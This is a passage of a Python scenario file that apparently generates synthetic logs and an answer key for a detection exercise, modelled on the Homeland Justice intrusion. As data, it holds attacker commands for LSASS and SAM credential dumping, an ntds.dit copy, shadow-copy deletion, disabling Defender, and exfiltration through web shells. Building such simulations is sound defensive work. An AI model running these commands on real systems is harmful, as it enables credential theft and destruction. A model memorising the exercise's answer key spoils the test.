"""Variant "albania": a 2021–2023 intrusion in GOVAL.LOCAL modelled on the Homeland Justice
campaign (research/campaign.md §3: hosts, accounts, steps A01–A55, bait B01–B15).

The step table below is the single source of truth: the generator expands it into events and
:func:`dwell.scenario.answer.derive` reads the answer key from it.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import TYPE_CHECKING

from dwell.scenario import _events as e
from dwell.scenario import _evtx as x
from dwell.scenario._clock import DAY, MINUTE, US, to_dt, ts
from dwell.scenario._compose import (
    CMD,
    EXPLORER,
    POWERSHELL,
    S32,
    W3WP,
    WMIPRVSE,
    children,
    rdp,
    rdp_from,
    session_cmd,
    w3wp_cmd,
    webshell,
    wmiexec,
)
from dwell.scenario.actions import (
    SYSTEM,
    AccountChange,
    AccountCreate,
    AppLog,
    ClearLogs,
    Connect,
    DefenderEvent,
    DriverLoad,
    ExchangeCmd,
    ExplicitCred,
    FileDelete,
    FileWrite,
    GroupAdd,
    Logon,
    PrivilegeUse,
    Proc,
    ProcessRead,
    RawRead,
    RegSet,
    Script,
    ServiceInstall,
    ShareFile,
    Web,
    Wipe,
)
from dwell.scenario.background import poisson
from dwell.scenario.model import Account, Action, Bait, Cadence, Host, Milestone, Scenario, Step

if TYPE_CHECKING:
    from dwell.scenario._context import Ctx

DOMAIN = "GOVAL.LOCAL"
NB = "GOVAL"
EXPLOIT_IP = "198.51.100.23"
EWS_IP = "203.0.113.77"
C2_IP = "203.0.113.90"
ATTACKER_WS = "WIN-R7J2KQ3A1B"
ATTACKER_WS_2023 = "DESKTOP-8H3K2LM"
SP_USER = f"{NB}\\svc_spfarm"
SP_POOL = w3wp_cmd("SharePoint - 80", "2f6c0d1e-8b3a-4f7e-9c51-0a7d3e2b9f14")
EAPP_POOL = w3wp_cmd("EServices", "5f3c2a4b-0c5e-4b1e-9a61-3f1d5d2e7c11")
LAYOUTS = ("C:\\Program Files\\Common Files\\Microsoft Shared\\Web Server Extensions\\15\\"
           "TEMPLATE\\LAYOUTS\\")
ADMIN = ".\\Administrator"
M64 = "C:\\Windows\\Temp\\m64.exe"
PRINT_IP = "10.10.0.50"
WEB_IP = "10.10.1.20"
MIMI_TRACE = ("C:\\Windows\\SYSTEM32\\ntdll.dll+9d1e4|C:\\Windows\\System32\\KERNELBASE.dll+"
              "2bcbe|{image}+c3c8a|{image}+c3b59|{image}+8a1f2|C:\\Windows\\System32\\"
              "KERNEL32.DLL+17bd4|C:\\Windows\\SYSTEM32\\ntdll.dll+6ced1")
COMSVCS_TRACE = ("C:\\Windows\\SYSTEM32\\ntdll.dll+9d1e4|C:\\Windows\\System32\\KERNELBASE.dll"
                 "+2bcbe|C:\\Windows\\SYSTEM32\\dbgcore.DLL+6c4e|C:\\Windows\\SYSTEM32\\"
                 "dbgcore.DLL+d5f2|C:\\Windows\\System32\\comsvcs.dll+39e6f|C:\\Windows\\"
                 "System32\\rundll32.exe+3bb2|C:\\Windows\\System32\\KERNEL32.DLL+17bd4")
UA_TOOL = "python-requests/2.25.1"
UA_EWS = "ExchangeServicesClient/15.00.0913.015"

HOSTS = (
    Host("COLLAB-WEB2", WEB_IP, "SharePoint 2013, internet-facing (beachhead)", "server",
         "2012r2", features=frozenset({"sharepoint", "iis"})),
    Host("DC01", "10.10.0.10", "Domain controller", "dc", "2016", proc_audit=True),
    Host("DC02", "10.10.0.11", "Domain controller", "dc", "2016", proc_audit=True,
         computer="DC02.GOVAL.LOCAL"),
    Host("EXCH01", "10.10.0.30", "Exchange 2016", "server", "2016",
         features=frozenset({"exchange", "iis"})),
    Host("FS01", "10.10.0.40", "File server", "server", "2016",
         features=frozenset({"fileserver"})),
    Host("PRINT01", PRINT_IP, "Print server", "server", "2012r2",
         features=frozenset({"print"}), computer="PRINT01.GOVAL.LOCAL"),
    Host("SQL01", "10.10.0.60", "Citizen-registry database", "server", "2016",
         features=frozenset({"sql"})),
    Host("EAPP01", "10.10.1.30", "e-services application (issues ID documents)", "server",
         "2019", features=frozenset({"eapp", "iis"}),
         renamed=((ts("2022-10-12 06:00"), "eapp01.goval.local"),)),
    Host("BKP01", "10.10.0.70", "Backup server", "server", "2016",
         features=frozenset({"backup"})),
    Host("TIMS01", "10.10.2.10", "Border management application", "server", "2012r2",
         sysmon=False, proc_audit=True, computer="tims01.goval.local"),
    Host("WS-ADM01", "10.10.3.11", "IT helpdesk workstation", "workstation", "win10",
         users=("h.basha",)),
    Host("WS-FIN02", "10.10.3.12", "Finance workstation", "workstation", "win10",
         users=("l.kola", "m.gjoka")),
    Host("WS-PM03", "10.10.3.13", "Prime Minister's office workstation", "workstation",
         "win10", users=("a.rama",), computer="ws-pm03.goval.local"),
    Host("WS-LEG01", "10.10.4.21", "Legal department workstation", "workstation", "win10",
         users=("adm.legal", "s.meta")),
    Host("WS-LEG02", "10.10.4.22", "Legal department workstation", "workstation", "win10",
         users=("e.leka", "s.meta")),
)

ACCOUNTS = (
    Account("Administrator", 500, "Built-in administrator", admin=True),
    Account("svc_spfarm", 1105, "SharePoint farm service"),
    Account("adm.khoxha", 1108, "Domain administrator", admin=True),
    Account("adm.mail", 1109, "Messaging administrator", admin=True),
    Account("sp.admin", 1110, "SharePoint administrator", admin=True),
    Account("svc_backup", 1122, "Backup service"),
    Account("svc_eapp", 1130, "e-services application"),
    Account("svc_mdm", 1140, "MDM sync service"),
    Account("svc_monitor", 1145, "Monitoring"),
    Account("adm.legal", 1190, "Legal eDiscovery officer"),
    Account("adm.security", 1195, "Security officer", admin=True),
    Account("h.basha", 1201, "Helpdesk technician", admin=True),
    Account("e.dervishi", 1243, "IT staff (mailbox user)"),
    Account("dba.lleshi", 1250, "Database administrator", admin=True),
    Account("a.rama", 1260, "Office of the Prime Minister"),
    Account("exsync01", 2211, "created by the attacker"),
)

STAFF = ("a.hoxha", "b.krasniqi", "d.shehu", "e.leka", "f.gashi", "g.berisha", "h.basha",
         "i.dema", "j.meta", "k.cela", "l.kola", "m.gjoka", "n.duka", "o.prifti", "p.zeka",
         "r.dervishi", "s.meta", "t.lika", "v.hysa", "z.marku", "a.rama", "e.dervishi",
         "b.tafaj", "d.rexha", "k.sula", "m.ruci", "n.pasha", "o.kraja", "s.balla", "t.muka")

TARGETS_2022 = ("FS01", "SQL01", "EAPP01", "BKP01", "EXCH01", "WS-ADM01", "WS-PM03",
                "WS-FIN02")
IPS = {h.name: h.ip for h in HOSTS}


def _flat(parts: Iterable[Action | tuple[Action, ...]]) -> tuple[Action, ...]:
    out: list[Action] = []
    for part in parts:
        if isinstance(part, tuple):
            out.extend(part)
        else:
            out.append(part)
    return tuple(out)


def S(sid: str, when: str, host: str, what: str, *parts: Action | tuple[Action, ...],
      impact: tuple[str, ...] = (), exfil: tuple[str, ...] = ()) -> Step:
    """One row of the step table."""
    return Step(sid, ts(when), host, what, _flat(parts), impact, exfil)


def shell(at: float, stem: str, cmd: str, method: str = "GET") -> tuple[Action, ...]:
    """A command through one of the SharePoint web shells."""
    return webshell("COLLAB-WEB2", at, stem=stem, cmd=cmd, client=EXPLOIT_IP,
                    pool_user=SP_USER, pool_cmd=SP_POOL, method=method)


def upload(at: float, stem: str, path: str) -> tuple[Action, ...]:
    """A file written by w3wp after a POST to a web shell."""
    return (
        Web("COLLAB-WEB2", at, EXPLOIT_IP, "POST", stem, "-", 200, "-", 2200, UA_TOOL),
        FileWrite("COLLAB-WEB2", at + 0.6, path, W3WP, SP_USER),
    )


def ews_session(at: float, mails: int, client: str = EWS_IP) -> tuple[Action, ...]:
    """An EWS export session by exsync01 (bulk POSTs of ~1.4 MB)."""
    return (
        Logon("EXCH01", at, f"{NB}\\exsync01", 3, client, "-", "NTLM", admin=False),
        Web("EXCH01", at + 2, client, "POST", "/EWS/Exchange.asmx", "-", 200,
            f"{NB}\\exsync01", 1_450_000, UA_EWS, count=mails, spread=55.0),
    )


def _ews_sessions() -> tuple[Action, ...]:
    """Fifteen sessions, alternating Tuesday and Thursday evenings from 2021-10-05 (A13)."""
    out: list[Action] = []
    for i in range(15):
        day = 7 * i + (2 if i % 2 else 0)
        minute = (i * 37) % 150
        out.extend(ews_session((day * DAY + minute * MINUTE) / US, 40))
    return tuple(out)


def push_goxml(host: str, at: float) -> tuple[Action, ...]:
    """Mellona.exe copying GoXml.exe and win.bat to a target's C$ (A38)."""
    return (
        Logon(host, at, ADMIN, 3, PRINT_IP, "PRINT01", "NTLM"),
        ShareFile(host, at + 0.5, ADMIN, PRINT_IP, "C$", "\\??\\C:\\"),
        ShareFile(host, at + 1.0, ADMIN, PRINT_IP, "C$", "\\??\\C:\\",
                  "ProgramData\\Microsoft\\Windows\\GoXml.exe", "0x2", connect=False),
        FileWrite(host, at + 1.2, "C:\\ProgramData\\Microsoft\\Windows\\GoXml.exe"),
        ShareFile(host, at + 2.0, ADMIN, PRINT_IP, "C$", "\\??\\C:\\",
                  "ProgramData\\Microsoft\\Windows\\win.bat", "0x2", connect=False),
        FileWrite(host, at + 2.2, "C:\\ProgramData\\Microsoft\\Windows\\win.bat"),
    )


_STOP = {
    "SQL01": "net stop MSSQLSERVER /y",
    "EXCH01": "net stop MSExchangeIS /y",
    "BKP01": "net stop BackupExecJobEngine /y",
    "FS01": "net stop LanmanServer /y",
    "EAPP01": "net stop W3SVC /y",
}
_DOCS = {
    "FS01": ("D:\\Docs\\Kabineti\\", ("vendim_2022_044.docx", "raport_mujor.xlsx",
                                      "takim_ambasada.pdf", "buxheti_2023.xlsx")),
    "SQL01": ("D:\\SQLBackup\\", ("CitizenRegistry_full.bak", "export_2022.xlsx")),
    "EAPP01": ("C:\\inetpub\\eapp\\out\\", ("ID-220714-0311.pdf", "ID-220714-0312.pdf")),
    "BKP01": ("D:\\Backups\\", ("FS01_weekly.docx", "EXCH01_db.pdf")),
    "EXCH01": ("C:\\Users\\adm.mail\\Documents\\", ("transport_rules.docx", "dag_plan.xlsx")),
}


def encrypt(host: str, at: float) -> tuple[Action, ...]:
    """GoXml.exe (ROADSWEEP) running on a target (A39)."""
    goxml = "C:\\ProgramData\\Microsoft\\Windows\\GoXml.exe"
    folder, names = _DOCS.get(host, ("C:\\Users\\Public\\Documents\\", (
        "shenime.docx", "lista.xlsx", "foto_2022.jpg", "kontrata.pdf")))
    acts: list[Action] = [
        Proc(host, at, goxml, f"{goxml} 2 3 C:\\ 4", ADMIN, WMIPRVSE, lifetime=600.0),
        Proc(host, at + 2, CMD, "cmd.exe /c vssadmin delete shadows /all /quiet", ADMIN, goxml,
             lifetime=3.0),
        Proc(host, at + 2.6, S32 + "vssadmin.exe", "vssadmin  delete shadows /all /quiet",
             ADMIN, CMD, lifetime=2.0),
    ]
    stop = _STOP.get(host)
    if stop is None and host.startswith("WS-"):
        acts.append(Proc(host, at + 5, CMD, "cmd.exe /c taskkill /f /im outlook.exe", ADMIN,
                         goxml, lifetime=2.0))
        acts.extend(children("taskkill /f /im outlook.exe", host, ADMIN, at + 5))
    elif stop is not None:
        acts.append(Proc(host, at + 5, CMD, f"cmd.exe /c {stop}", ADMIN, goxml, lifetime=2.0))
        acts.extend(children(stop, host, ADMIN, at + 5))
    acts.append(FileWrite(host, at + 20, f"{folder}README_SI_TE_RIKTHENI.txt", goxml, ADMIN))
    acts.append(FileWrite(host, at + 21, "C:\\Users\\Public\\Desktop\\README_SI_TE_RIKTHENI.txt",
                          goxml, ADMIN))
    for i, name in enumerate(names * 3):
        stem = name if i < len(names) else f"{i:02d}_{name}"
        acts.append(FileWrite(host, at + 30 + i * 2.5, f"{folder}{stem}.lck", goxml, ADMIN))
        acts.append(FileDelete(host, at + 31 + i * 2.5, f"{folder}{stem}", goxml, ADMIN))
    acts.append(FileWrite(host, at + 80, "C:\\ProgramData\\Microsoft\\Windows\\wall.jpg", goxml,
                          ADMIN))
    acts.append(RegSet(host, at + 81, "HKU\\{sid}\\Control Panel\\Desktop\\Wallpaper",
                       "C:\\ProgramData\\Microsoft\\Windows\\wall.jpg", goxml, ADMIN))
    return tuple(acts)


def persist_winbat(host: str, at: float) -> tuple[Action, ...]:
    """win.bat copied to the all-users Startup folder (A40)."""
    goxml = "C:\\ProgramData\\Microsoft\\Windows\\GoXml.exe"
    startup = "C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\StartUp\\win.bat"
    return (
        Proc(host, at, CMD, f"cmd.exe /c copy /y C:\\ProgramData\\Microsoft\\Windows\\win.bat "
             f"\"{startup}\"", ADMIN, goxml, lifetime=1.0),
        FileWrite(host, at + 0.5, startup, CMD, ADMIN),
    )


def defender_off(host: str, at: float) -> tuple[Action, ...]:
    """Defender real-time protection disabled over WMI from PRINT01 (A36)."""
    ps = ("Set-MpPreference -DisableRealtimeMonitoring $true -DisableIOAVProtection $true "
          "-DisableBehaviorMonitoring $true")
    rtp = "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Real-Time Protection\\"
    mpeng = ("C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.2205.7-0\\"
             "MsMpEng.exe")
    acts: list[Action] = []
    if host != "PRINT01":
        acts.append(Logon(host, at, ADMIN, 3, PRINT_IP, "PRINT01", "NTLM"))
    acts += [
        Proc(host, at + 1.5, POWERSHELL, f"powershell.exe -NoP -W Hidden -c \"{ps}\"", ADMIN,
             WMIPRVSE, lifetime=6.0),
        Script(host, at + 3.0, ps, ADMIN, host_app=f"powershell.exe -NoP -W Hidden -c \"{ps}\"",
               warning=True),
        RegSet(host, at + 3.5, rtp + "DisableRealtimeMonitoring", "DWORD (0x00000001)", mpeng),
        DefenderEvent(host, at + 3.6, 5007, (
            ("Old Value", rtp + "DisableRealtimeMonitoring = 0x0"),
            ("New Value", rtp + "DisableRealtimeMonitoring = 0x1"))),
        DefenderEvent(host, at + 3.7, 5001, (), level=3),
    ]
    return tuple(acts)


def wipe(host: str, at: float, logon: bool) -> tuple[Action, ...]:
    """cl.exe (ZeroCleare) with the RawDisk driver, then the host dies (A42)."""
    cl, sys_ = "C:\\Windows\\Temp\\cl.exe", "C:\\Windows\\Temp\\rwdsk.sys"
    acts: list[Action] = []
    if logon:
        acts.append(Logon(host, at, ADMIN, 3, PRINT_IP, "PRINT01", "NTLM"))
    acts += [
        ShareFile(host, at + 1, ADMIN, PRINT_IP, "C$", "\\??\\C:\\", "Windows\\Temp\\cl.exe",
                  "0x2"),
        FileWrite(host, at + 1.2, cl),
        ShareFile(host, at + 2, ADMIN, PRINT_IP, "C$", "\\??\\C:\\", "Windows\\Temp\\rwdsk.sys",
                  "0x2", connect=False),
        FileWrite(host, at + 2.2, sys_),
        Proc(host, at + 10, cl, f"{cl} -i {sys_} -w", ADMIN, WMIPRVSE, lifetime=0.0),
        PrivilegeUse(host, at + 11.5, cl, ADMIN),
        ServiceInstall(host, at + 12, "RawDisk3", sys_, "kernel mode driver", "demand start",
                       "", ADMIN),
        DriverLoad(host, at + 13, sys_, "EldoS Corporation"),
        RawRead(host, at + 15, cl, ADMIN, count=6),
        Wipe(host, at + 120),
    ]
    return tuple(acts)


def _steps() -> tuple[Step, ...]:
    picker_q = ("PickerDialogType=Microsoft.SharePoint.Portal.WebControls.ItemPickerDialog,"
                "+Microsoft.SharePoint.Portal,+Version=15.0.0.0")
    return (
        S("A01", "2021-05-11 02:14", "COLLAB-WEB2",
          "CVE-2019-0604 exploit (POST Picker.aspx); w3wp spawns cmd whoami",
          Web("COLLAB-WEB2", 0, EXPLOIT_IP, "POST", "/_layouts/15/Picker.aspx", picker_q, 200,
              "-", 5120, UA_TOOL, count=3, spread=4.0),
          Proc("COLLAB-WEB2", 12, CMD,
               '"c:\\windows\\system32\\cmd.exe" /c whoami & net localgroup administrators',
               SP_USER, W3WP, SP_POOL, SP_USER, cwd="c:\\windows\\system32\\inetsrv\\",
               lifetime=2.0),
          children("whoami & net localgroup administrators", "COLLAB-WEB2", SP_USER, 12)),
        S("A02", "2021-05-11 02:16", "COLLAB-WEB2", "w3wp writes web shell LAYOUTS\\pickers.aspx",
          Web("COLLAB-WEB2", 0, EXPLOIT_IP, "POST", "/_layouts/15/Picker.aspx", picker_q, 200,
              "-", 5120, UA_TOOL),
          FileWrite("COLLAB-WEB2", 1.5, LAYOUTS + "pickers.aspx", W3WP, SP_USER)),
        S("A03", "2021-05-11 02:31", "COLLAB-WEB2",
          "web shell GETs: whoami, net localgroup administrators, ipconfig",
          shell(0, "/_layouts/15/pickers.aspx", "whoami /all"),
          shell(40, "/_layouts/15/pickers.aspx", "net localgroup administrators"),
          shell(95, "/_layouts/15/pickers.aspx", "ipconfig /all")),
        S("A04", "2021-05-12 01:50", "COLLAB-WEB2", "error4.aspx dropped via pickers.aspx",
          upload(0, "/_layouts/15/pickers.aspx", LAYOUTS + "error4.aspx")),
        S("A05", "2021-05-19 23:05", "COLLAB-WEB2",
          "renamed Mimikatz uploaded as C:\\Windows\\Temp\\m64.exe",
          upload(0, "/_layouts/15/error4.aspx", M64)),
        S("A06", "2021-06-02 00:40", "COLLAB-WEB2", "third web shell ClientBin.aspx added",
          upload(0, "/_layouts/15/error4.aspx", LAYOUTS + "ClientBin\\ClientBin.aspx")),
        S("A07", "2021-07-08 01:12", "COLLAB-WEB2",
          "as svc_spfarm (local admin): reg save HKLM\\SAM",
          shell(0, "/_layouts/15/error4.aspx",
                "reg save HKLM\\SAM C:\\Windows\\Temp\\sam.save /y"),
          FileWrite("COLLAB-WEB2", 3, "C:\\Windows\\Temp\\sam.save", S32 + "reg.exe", SP_USER)),
        S("A08", "2021-07-08 01:20", "COLLAB-WEB2",
          "m64.exe reads LSASS; e.dervishi credentials obtained",
          shell(0, "/_layouts/15/error4.aspx", f"{M64} privilege::debug sekurlsa::msv exit"),
          ProcessRead("COLLAB-WEB2", 2, M64, SP_USER, "0x1010", MIMI_TRACE)),
        S("A09", "2021-07-21 22:47", "EXCH01",
          "OWA/EWS logons as e.dervishi from the exploit address",
          Web("EXCH01", 0, EXPLOIT_IP, "POST", "/owa/auth.owa", "-", 302, "-", 900,
              "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:89.0) Gecko/20100101 Firefox/89.0"),
          Logon("EXCH01", 1, f"{NB}\\e.dervishi", 8, EXPLOIT_IP, "-", "Negotiate", admin=False),
          Web("EXCH01", 3, EXPLOIT_IP, "GET", "/owa/", "-", 200, f"{NB}\\e.dervishi", 45_000,
              "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:89.0) Gecko/20100101 Firefox/89.0",
              count=12, spread=20.0),
          Web("EXCH01", 300, EXPLOIT_IP, "POST", "/EWS/Exchange.asmx", "-", 200,
              f"{NB}\\e.dervishi", 60_000, UA_EWS, count=6, spread=15.0)),
        S("A10", "2021-08-03 21:10", "EXCH01",
          "New-MailboxSearch and Get-Recipient as e.dervishi (remote PowerShell)",
          Logon("EXCH01", 0, f"{NB}\\e.dervishi", 8, EXPLOIT_IP, "-", "Negotiate", admin=False),
          Web("EXCH01", 1, EXPLOIT_IP, "POST", "/powershell", "serializationLevel=Full;"
              "clientApplication=EMC", 200, f"{NB}\\e.dervishi", 8000, UA_TOOL, count=4),
          ExchangeCmd("EXCH01", 20, "Get-Recipient", '-ResultSize "unlimited"',
                      f"{NB}\\e.dervishi"),
          ExchangeCmd("EXCH01", 95, "New-MailboxSearch",
                      '-Name "s1" -SearchQuery "admin" -EstimateOnly "True"',
                      f"{NB}\\e.dervishi")),
        S("A11", "2021-08-03 21:25", "DC01",
          "exsync01 created (4720) and added to Exchange Operators (4728)",
          ExchangeCmd("EXCH01", -5, "New-Mailbox",
                      '-Name "exsync01" -UserPrincipalName "exsync01@goval.local" -Password '
                      '"******" -OrganizationalUnit "goval.local/Users"', f"{NB}\\e.dervishi"),
          AccountCreate("DC01", 0, "exsync01", f"{NB}\\EXCH01$"),
          GroupAdd("DC01", 4, "exsync01", "Exchange Operators", f"{NB}\\EXCH01$", 4728, 1151)),
        S("A12", "2021-08-03 21:27", "EXCH01",
          "New-ManagementRoleAssignment ApplicationImpersonation for exsync01",
          ExchangeCmd("EXCH01", 0, "New-ManagementRoleAssignment",
                      '-Name "exsync01-imp" -Role "ApplicationImpersonation" -User "exsync01"',
                      f"{NB}\\e.dervishi")),
        Step("A13", ts("2021-10-05 20:00"), "EXCH01",
             "EWS bulk mail export by exsync01 from 203.0.113.77, Tue/Thu evenings",
             _ews_sessions(), exfil=("EXCH01",)),
        S("A14", "2021-11-17 22:03", "COLLAB-WEB2", "web shell: dir \\\\FS01\\Docs$",
          shell(0, "/_layouts/15/ClientBin/ClientBin.aspx", "dir \\\\FS01\\Docs$\\Kabineti"),
          Logon("FS01", 1.5, SP_USER, 3, WEB_IP, "-", "Kerberos", admin=False),
          ShareFile("FS01", 2, SP_USER, WEB_IP, "Docs$", "\\??\\D:\\Docs", "Kabineti",
                    "0x100081")),
        S("A15", "2022-01-25 22:40", "EXCH01", "last EWS export session of the mail-theft phase",
          ews_session(0, 40), exfil=("EXCH01",)),
        S("A16", "2022-05-03 21:02", "COLLAB-WEB2",
          "Advanced Port Scanner against 10.10.0.0/16",
          upload(0, "/_layouts/15/ClientBin/ClientBin.aspx",
                 "C:\\Windows\\Temp\\aps\\advanced_port_scanner.exe"),
          shell(30, "/_layouts/15/ClientBin/ClientBin.aspx",
                "C:\\Windows\\Temp\\aps\\advanced_port_scanner.exe /portable "
                "C:\\Windows\\Temp\\aps\\ /lng en_us"),
          Connect("COLLAB-WEB2", 40, "C:\\Windows\\Temp\\aps\\advanced_port_scanner.exe",
                  SP_USER, count=96, spread=0.25, ports=(445, 3389, 135, 80),
                  targets=tuple(f"10.10.{n // 24}.{10 + n % 24 * 10}" for n in range(96)))),
        S("A17", "2022-05-03 22:10", "COLLAB-WEB2",
          "m64.exe sekurlsa::logonpasswords: local Administrator NTLM hash",
          shell(0, "/_layouts/15/ClientBin/ClientBin.aspx",
                f"{M64} privilege::debug sekurlsa::logonpasswords exit"),
          ProcessRead("COLLAB-WEB2", 2, M64, SP_USER, "0x1438", MIMI_TRACE)),
        S("A18", "2022-05-04 21:15", "FS01", "RDP as Administrator from COLLAB-WEB2",
          rdp("FS01", 0, user=ADMIN, src_ip=WEB_IP, workstation=ATTACKER_WS, duration=2400)),
        S("A19", "2022-05-04 21:30", "FS01", "dir /s of Docs$\\Kabineti",
          session_cmd("FS01", 0, ADMIN,
                      "dir /s \\\\FS01\\Docs$\\Kabineti > C:\\Users\\Public\\k.txt"),
          FileWrite("FS01", 2, "C:\\Users\\Public\\k.txt", CMD, ADMIN)),
        S("A20", "2022-05-06 20:55", "WS-ADM01", "Impacket wmiexec as Administrator",
          wmiexec("WS-ADM01", 0, user=ADMIN, src_ip=WEB_IP, workstation="",
                  cmd="whoami /all & net user /domain")),
        S("A21", "2022-05-06 21:05", "WS-ADM01",
          "comsvcs MiniDump of LSASS: adm.khoxha credentials",
          wmiexec("WS-ADM01", 0, user=ADMIN, src_ip=WEB_IP, workstation="", logon=False,
                  cmd="rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {lsass} "
                      "C:\\Windows\\Temp\\lsass.dmp full"),
          ProcessRead("WS-ADM01", 2.5, S32 + "rundll32.exe", ADMIN, "0x1fffff", COMSVCS_TRACE),
          FileWrite("WS-ADM01", 3.5, "C:\\Windows\\Temp\\lsass.dmp", S32 + "rundll32.exe",
                    ADMIN),
          ShareFile("WS-ADM01", 60, ADMIN, WEB_IP, "ADMIN$", "\\??\\C:\\Windows",
                    "Temp\\lsass.dmp", "0x120089", connect=False)),
        S("A22", "2022-05-09 20:10", "DC01", "RDP as domain admin adm.khoxha from COLLAB-WEB2",
          rdp("DC01", 0, user=f"{NB}\\adm.khoxha", src_ip=WEB_IP, workstation=ATTACKER_WS,
              duration=3000)),
        S("A23", "2022-05-09 20:25", "DC01", "ntdsutil IFM copy of ntds.dit",
          session_cmd("DC01", 0, f"{NB}\\adm.khoxha",
                      'ntdsutil "ac i ntds" ifm "create full C:\\ProgramData\\ifm" q q'),
          FileWrite("DC01", 40, "C:\\ProgramData\\ifm\\Active Directory\\ntds.dit",
                    S32 + "ntdsutil.exe", f"{NB}\\adm.khoxha")),
        S("A24", "2022-05-09 20:50", "DC01", "ntds.dit sent by FTP to COLLAB-WEB2",
          session_cmd("DC01", 0, f"{NB}\\adm.khoxha", f"ftp -s:C:\\ProgramData\\f.txt {WEB_IP}"),
          Connect("DC01", 1.5, S32 + "ftp.exe", f"{NB}\\adm.khoxha", WEB_IP, 21)),
        S("A25", "2022-05-12 21:00", "SQL01", "RDP as Administrator",
          rdp("SQL01", 0, user=ADMIN, src_ip=WEB_IP, workstation=ATTACKER_WS, duration=4200)),
        S("A26", "2022-05-12 21:20", "SQL01", "sqlcmd export of the citizen registry to reg.csv",
          session_cmd("SQL01", 0, ADMIN,
                      'sqlcmd -S localhost -E -Q "SELECT * FROM CitizenRegistry.dbo.Persons" '
                      '-s "," -o C:\\ProgramData\\reg.csv'),
          FileWrite("SQL01", 25, "C:\\ProgramData\\reg.csv",
                    "C:\\Program Files\\Microsoft SQL Server\\Client SDK\\ODBC\\170\\Tools\\Binn\\"
                    "SQLCMD.EXE", ADMIN)),
        S("A27", "2022-05-12 21:40", "SQL01", "rar -hp staging of reg.csv",
          FileWrite("SQL01", -60, "C:\\ProgramData\\rar.exe", EXPLORER, ADMIN),
          session_cmd("SQL01", 0, ADMIN, "C:\\ProgramData\\rar.exe a -hpK9vx2q -m5 "
                      "C:\\ProgramData\\reg.rar C:\\ProgramData\\reg.csv"),
          FileWrite("SQL01", 30, "C:\\ProgramData\\reg.rar", "C:\\ProgramData\\rar.exe", ADMIN)),
        S("A28", "2022-05-12 22:00", "COLLAB-WEB2",
          "reg.rar pulled over SMB and downloaded through the web shell",
          shell(0, "/_layouts/15/ClientBin/ClientBin.aspx",
                "net use \\\\10.10.0.60\\c$ /user:SQL01\\Administrator ******** & "
                "copy \\\\10.10.0.60\\c$\\ProgramData\\reg.rar C:\\Windows\\Temp\\r.rar"),
          ExplicitCred("COLLAB-WEB2", 1.2, SP_USER, ".\\Administrator", "10.10.0.60",
                       ip="10.10.0.60"),
          Logon("SQL01", 1.5, ADMIN, 3, WEB_IP, "COLLAB-WEB2", "NTLM"),
          ShareFile("SQL01", 2, ADMIN, WEB_IP, "C$", "\\??\\C:\\", "ProgramData\\reg.rar",
                    "0x120089"),
          Web("COLLAB-WEB2", 120, EXPLOIT_IP, "GET", "/_layouts/15/ClientBin/ClientBin.aspx",
              "f=C:\\Windows\\Temp\\r.rar", 200, "-", 48_000_000, UA_TOOL),
          exfil=("COLLAB-WEB2",)),
        S("A29", "2022-05-20 20:30", "PRINT01", "first RDP to the print server",
          rdp("PRINT01", 0, user=ADMIN, src_ip=WEB_IP, workstation=ATTACKER_WS, duration=900)),
        S("A30", "2022-05-20 20:45", "BKP01", "RDP; vssadmin list shadows",
          rdp("BKP01", 0, user=ADMIN, src_ip=WEB_IP, workstation=ATTACKER_WS, duration=900),
          session_cmd("BKP01", 60, ADMIN, "vssadmin list shadows")),
        S("A31", "2022-06-01 21:10", "EAPP01",
          "wmiexec; svc_eapp password found in web.config",
          wmiexec("EAPP01", 0, user=ADMIN, src_ip=WEB_IP, workstation="",
                  cmd='findstr /si "password" C:\\inetpub\\eapp\\web.config')),
        S("A32", "2022-06-07 20:00", "TIMS01", "RDP as Administrator to the border system",
          rdp("TIMS01", 0, user=ADMIN, src_ip=WEB_IP, workstation=ATTACKER_WS, duration=1200)),
        S("A33", "2022-06-15 21:30", "WS-PM03",
          "RDP; the PM's Outlook PST copied to \\\\COLLAB-WEB2\\c$",
          rdp("WS-PM03", 0, user=ADMIN, src_ip=WEB_IP, workstation=ATTACKER_WS, duration=1800),
          session_cmd("WS-PM03", 120, ADMIN,
                      'copy "C:\\Users\\a.rama\\Documents\\Outlook Files\\a.rama@goval.local.pst"'
                      " \\\\COLLAB-WEB2\\c$\\Windows\\Temp\\pm.pst"),
          Logon("COLLAB-WEB2", 121.5, ADMIN, 3, "10.10.3.13", "WS-PM03", "NTLM"),
          ShareFile("COLLAB-WEB2", 122, ADMIN, "10.10.3.13", "C$", "\\??\\C:\\",
                    "Windows\\Temp\\pm.pst", "0x2"),
          Web("COLLAB-WEB2", 3600, EXPLOIT_IP, "GET", "/_layouts/15/ClientBin/ClientBin.aspx",
              "f=C:\\Windows\\Temp\\pm.pst", 200, "-", 1_200_000_000, UA_TOOL),
          exfil=("COLLAB-WEB2",)),
        S("A34", "2022-06-29 22:00", "EXCH01", "EWS export of three VIP mailboxes",
          ews_session(0, 60), exfil=("EXCH01",)),
        S("A35", "2022-07-14 19:40", "PRINT01",
          "RDP; Mellona.exe, GoXml.exe, win.bat, cl.exe, rwdsk.sys copied to C:\\Users\\Public",
          rdp("PRINT01", 0, user=ADMIN, src_ip=WEB_IP, workstation=ATTACKER_WS, duration=3600),
          *(FileWrite("PRINT01", 90 + i * 4, f"C:\\Users\\Public\\{name}", EXPLORER, ADMIN)
            for i, name in enumerate(("Mellona.exe", "GoXml.exe", "win.bat", "cl.exe",
                                      "rwdsk.sys", "hosts.txt"))),
          session_cmd("PRINT01", 200, ADMIN,
                      'reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender" /v '
                      "DisableAntiSpyware /t REG_DWORD /d 1 /f"),
          RegSet("PRINT01", 201.5,
                 "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware",
                 "DWORD (0x00000001)", S32 + "reg.exe", ADMIN),
          DefenderEvent("PRINT01", 203, 5007, (
              ("Old Value", "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\"
                            "DisableAntiSpyware = 0x0"),
              ("New Value", "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\"
                            "DisableAntiSpyware = 0x1")))),
